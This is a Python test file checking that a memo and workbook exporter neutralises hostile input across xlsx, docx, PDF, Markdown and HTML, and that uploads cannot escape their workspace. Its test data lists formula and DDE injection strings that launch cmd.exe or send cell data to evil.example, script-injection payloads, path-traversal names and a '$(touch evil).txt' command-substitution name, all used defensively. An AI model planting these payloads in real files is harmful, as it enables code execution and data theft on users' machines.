"""Exports of hostile words: no live formula or field, no link out, no part from elsewhere; numbers stay numbers."""

import re
import zipfile
from dataclasses import replace
from decimal import Decimal
from io import BytesIO
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from lxml import html as markup
from openpyxl import load_workbook

from data.answers import Answer, Calculation, Check, Citation, Claim, Compared, Comparison, ComparisonRow, Memo, Operand
from data.errors import MffmError
from data.locators import PageBox
from data.people import LOCAL
from data.store.store import Store
from generation.memos.memo import export_memo
from generation.workbooks.answer import answer_workbook
from generation.workbooks.facts import facts_workbook
from tests.generation.facts_of_two_filings import DOCUMENTS, table
from ui.pages.memo import file_stem
from ui.uploads import receive

HOSTILE = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example\",\"x\")",
    "=WEBSERVICE(\"http://evil.example/\"&A1)",
    "=IMPORTXML(\"http://evil.example\",\"//a\")",
    "+1+1",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "{=1+1}",
    "DDEAUTO c:\\windows\\system32\\cmd.exe \"/k calc\"",
    "{ DDE cmd calc }",
    "{ INCLUDEPICTURE \"http://evil.example/x\" }",
    "{ HYPERLINK \"http://evil.example\" }",
    "http://evil.example/x",
    "www.evil.example",
    "![x](http://evil.example/x)",
    "[x](javascript:alert(1))",
    "<img src=http://evil.example/x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "#image(\"http://evil.example/x\") #link(\"http://evil.example\")[x]",
    "]]></w:t><w:instrText>DDE</w:instrText>",
)  # fmt: skip
KINDS = ("docx", "pdf", "md", "html")


def answer_of(text: str) -> Answer:
    """Every word of it is `text`, and one figure is below zero."""
    cited = Citation(1, text, "d" * 64, 1, PageBox(1), text)
    operand = Operand(text, Decimal("-5.3"), text, None, 1, text)
    compared = Comparison(text, (text,), (ComparisonRow(text, (Compared(text, Decimal("-5.3"), "USD", (1,)),)),))
    sum_of = Calculation(text, text, (operand, operand), Decimal("-5.3"), "USD", text, (text,), (text,))
    claims = (Claim(f"{text} ", (1,), Check.QUOTED), Claim(text, (1,), Check.UNSUPPORTED, (text,)))
    return Answer(text, claims, (cited,), (sum_of,), comparison=compared, notes=(text,), dropped=(text,), model=text)


def parts_of(content: bytes) -> dict[str, str]:
    with zipfile.ZipFile(BytesIO(content)) as package:
        return {name: package.read(name).decode("utf-8", "replace") for name in package.namelist()}


@pytest.fixture(scope="module")
def store(tmp_path_factory: pytest.TempPathFactory) -> Store:
    return Store.open(tmp_path_factory.mktemp("w"), LOCAL)


def exported(store: Store, kind: str) -> bytes:
    """A memo in which every hostile text is title, author, question, claim, quote, file name, figure, …"""
    answers = tuple(answer_of(text) for text in HOSTILE)
    return export_memo(Memo(" ".join(HOSTILE), answers, " ".join(HOSTILE)), store, kind)


# ---------------------------------------------------------------- workbooks


@pytest.mark.parametrize("text", HOSTILE)
def test_in_a_workbook_words_are_words_and_minus_5_3_is_a_number(text: str):
    content = answer_workbook(answer_of(text))
    parts = parts_of(content)
    assert not [name for name in parts if re.search(r"external|connections|media|embed|vba", name, re.IGNORECASE)]
    whole = "".join(parts.values())
    assert "TargetMode" not in whole
    assert "<hyperlink" not in whole
    assert all(re.fullmatch(r"[C0-9+*/(). -]+", formula) for formula in re.findall("<f>(.*?)</f>", whole))
    book = load_workbook(BytesIO(content))
    assert book["Comparison"]["B3"].value == -5.3
    assert book["Comparison"]["B3"].data_type == "n"
    assert book["Calculation"]["C4"].value == -5.3
    words = [cell for sheet in book for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)]
    for cell in words:
        own = cell.data_type == "f" and cell.value == "=C4"
        assert own or cell.data_type == "s"
        assert own or cell.quotePrefix or not cell.value.lstrip().startswith(("=", "+", "-", "@"))


def test_facts_with_hostile_labels_stay_words():
    rows = [replace(table().rows[0], label=text) for text in HOSTILE]
    content = facts_workbook(replace(table(), rows=tuple(rows)), DOCUMENTS, HOSTILE[1])
    whole = "".join(parts_of(content).values())
    assert not re.search("<f>|<hyperlink|TargetMode", whole)
    labels = [row[0].value for row in load_workbook(BytesIO(content))["Facts"].iter_rows(min_row=5)]
    assert "=cmd|' /C calc'!A0" in labels


# ---------------------------------------------------------------- memos


def test_a_word_memo_has_no_field_no_link_and_nothing_from_elsewhere(store: Store):
    parts = parts_of(exported(store, "docx"))
    live = r'<w:(instrText|fldSimple|fldChar|hyperlink|altChunk|object|attachedTemplate)\b|TargetMode="External"'
    assert {name: found for name, part in parts.items() if (found := re.findall(live, part))} == {}
    assert not [name for name in parts if re.search(r"vba|activeX|embeddings|oleObject", name)]
    assert "DDEAUTO" in parts["word/document.xml"]


def test_a_pdf_memo_has_no_link_out_and_no_script(store: Store):
    import pypdfium2
    from pypdfium2 import raw

    document = pypdfium2.PdfDocument(exported(store, "pdf"))
    assert raw.FPDFDoc_GetJavaScriptActionCount(document) == 0
    assert raw.FPDFDoc_GetAttachmentCount(document) == 0
    text = "".join(page.get_textpage().get_text_range() for page in document)
    assert "evil.example" in text
    kinds = {
        raw.FPDFAnnot_GetSubtype(raw.FPDFPage_GetAnnot(page, n))
        for page in document
        for n in range(raw.FPDFPage_GetAnnotCount(page))
    }
    assert kinds <= {raw.FPDF_ANNOT_LINK}
    for page in document:
        for n in range(raw.FPDFPage_GetAnnotCount(page)):
            link = raw.FPDFAnnot_GetLink(raw.FPDFPage_GetAnnot(page, n))
            action = raw.FPDFLink_GetAction(link)
            assert not action or raw.FPDFAction_GetType(action) == raw.PDFACTION_GOTO
    document.close()


def test_an_html_memo_holds_no_script_and_points_only_into_itself(store: Store):
    page = markup.fromstring(exported(store, "html"))
    assert {
        element.tag for element in page.iter("script", "iframe", "object", "embed", "link", "base", "form")
    } == set()
    names = {name for element in page.iter() for name in element.attrib}
    assert not [name for name in names if name.startswith("on") or name in ("srcset", "background", "action")]
    reached = [element.get(name) for element in page.iter() for name in ("href", "src") if element.get(name)]
    assert reached
    assert all(str(address).startswith(("#n", "#r", "data:image/png", "data:audio/mpeg")) for address in reached)
    (policy,) = page.xpath("//meta[@http-equiv='Content-Security-Policy']/@content")
    assert str(policy).startswith("default-src 'none'")


def test_a_markdown_memo_read_as_markdown_has_no_link_picture_or_html(store: Store):
    from markdown_it import MarkdownIt

    reader = MarkdownIt("commonmark", {"html": True}).enable("table")
    kinds = {
        inner.type
        for token in reader.parse(exported(store, "md").decode())
        for inner in (token, *(token.children or ()))
    }
    assert "text" in kinds
    assert not kinds & {"link_open", "image", "html_inline", "html_block", "code_block", "fence"}


# ---------------------------------------------------------------- names


@given(st.text())
def test_a_download_is_named_by_letters_digits_and_hyphens(title: str):
    assert re.fullmatch(r"[A-Za-z0-9_-]{1,80}", file_stem(title))


@pytest.mark.parametrize("kind", ["../../evil.html", "html/../../x", "exe", "", "docx\x00.html"])
def test_a_memo_is_written_in_a_known_format_only(store: Store, kind: str):
    with pytest.raises(MffmError):
        export_memo(Memo("t", ()), store, kind)


NAMES = (
    *("../../evil.txt", "/etc/evil.txt", "..\\..\\evil.txt", "C:\\evil.txt", "a/b/evil.txt", "evil\x00.txt"),
    *("~/.bashrc", "con.txt", "evil.txt\n", "." * 300, "\u202egnp.txt", "%2e%2e%2fevil.txt", "$(touch evil).txt"),
)


def test_an_upload_leaves_nothing_outside_its_workspace_whatever_its_name(tmp_path: Path):
    workspace = tmp_path / "a" / "b" / "w"
    store = Store.open(workspace, LOCAL)
    before = {path for path in tmp_path.rglob("*") if workspace not in path.parents}
    for n, name in enumerate(NAMES):
        receive(store, [(name, BytesIO(f"words {n}".encode()))])
    assert {path for path in tmp_path.rglob("*") if workspace not in path.parents} == before
    kept = [path.name for path in (workspace / "files").rglob("*") if path.is_file()]
    assert len(kept) == len(NAMES)
    assert all(re.fullmatch(r"[0-9a-f]{64}", name) for name in kept)
